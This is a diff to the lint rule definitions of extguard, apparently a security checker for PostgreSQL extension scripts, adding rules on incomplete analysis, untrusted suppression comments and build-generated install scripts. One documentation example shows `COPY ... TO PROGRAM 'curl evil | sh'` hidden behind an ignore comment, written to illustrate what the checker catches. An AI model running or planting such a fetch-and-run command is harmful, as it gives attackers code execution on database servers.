@@ -92,18 +92,72 @@ declare_rule! {
 
 declare_rule! {
     /// ## What it flags
-    /// A body extguard could not analyse because it exceeds a limit: a
-    /// PL/pgSQL body nested more deeply than its parse tree reader accepts
-    /// (about 60 levels of IF/LOOP/BEGIN), or bodies nested inside bodies
-    /// more than 32 deep.
+    /// A statement or body extguard did not analyse, though PostgreSQL may
+    /// accept it; the span shows where analysis stopped:
+    /// - a PL/pgSQL body whose parsing needs the database's catalog (a
+    ///   cursor passed in an unnamed `refcursor` parameter, `CLOSE $1`);
+    ///   fields of composite and `%ROWTYPE` variables and parameters, and
+    ///   cursors in named parameters, are handled;
+    /// - a PL/pgSQL body nested more deeply than its parse tree reader
+    ///   accepts (about 60 levels of IF/LOOP/BEGIN);
+    /// - a statement whose parse tree is nested more than 2,000 levels
+    ///   (an expression of about 1,000 nested operators or calls);
+    /// - bodies nested inside bodies more than 32 deep.
     ///
     /// ## Why it matters
-    /// Nothing inside that body is checked. The rest of the file is.
+    /// Nothing inside it is checked. The rest of the file is.
     ///
     /// ## Example
     /// A DO block with 200 nested `IF ... THEN` statements.
     ///
     /// ## Fix
-    /// Review the body by hand, or flatten it.
-    pub static EG006 = { code: "EG006", name: "analysis-limit", title: "Too deeply nested to analyse", severity: Warning };
+    /// Review that code by hand (or flatten it).
+    pub static EG006 = { code: "EG006", name: "analysis-incomplete", title: "Analysis incomplete", severity: Info };
+}
+
+declare_rule! {
+    /// ## What it flags
+    /// An `-- extguard: ignore CODE` comment in input that is not yours:
+    /// packages read by `extguard scan`, and files checked with
+    /// `extguard check --untrusted` or `--no-inline-ignores`. Such comments
+    /// are not obeyed there; the findings they would hide are reported as
+    /// usual, and this finding names them.
+    ///
+    /// ## Why it matters
+    /// A hostile package could otherwise hide its own `COPY ... TO PROGRAM`
+    /// from the review with one comment.
+    ///
+    /// ## Example
+    /// ```sql
+    /// -- extguard: ignore EG101
+    /// COPY (SELECT 1) TO PROGRAM 'curl evil | sh';
+    /// ```
+    ///
+    /// ## Fix
+    /// Review what the comment tried to hide. In your own code, run
+    /// `extguard check` without `--untrusted` to have such comments obeyed.
+    pub static EG007 = { code: "EG007", name: "untrusted-suppression", title: "Suppression comment in untrusted input", severity: Warning };
+}
+
+declare_rule! {
+    /// ## What it flags
+    /// An extension in a source checkout (a Makefile, meson.build, ... next
+    /// to its control file) whose install script for `default_version` does
+    /// not exist yet: the build makes it. When it copies `sql/NAME.sql`
+    /// (pgvector's Makefile), that file is analysed as the install script;
+    /// when it concatenates pieces, each script present is analysed on its
+    /// own.
+    ///
+    /// ## Why it matters
+    /// In the second case extguard cannot follow the CREATE EXTENSION chain:
+    /// names CREATE EXTENSION would resolve safely may be reported.
+    ///
+    /// ## Example
+    /// `default_version = '5.0'`, `sql/functions/*.sql` and a Makefile rule
+    /// that builds `sql/ext--5.0.sql` from them.
+    ///
+    /// ## Fix
+    /// None needed; to analyse the real chain, run extguard on the built
+    /// tree (`make` first) or on the installed extension directory.
+    pub static EG008 = { code: "EG008", name: "install-script-made-by-build", title: "Install script made by the build", severity: Info };
 }
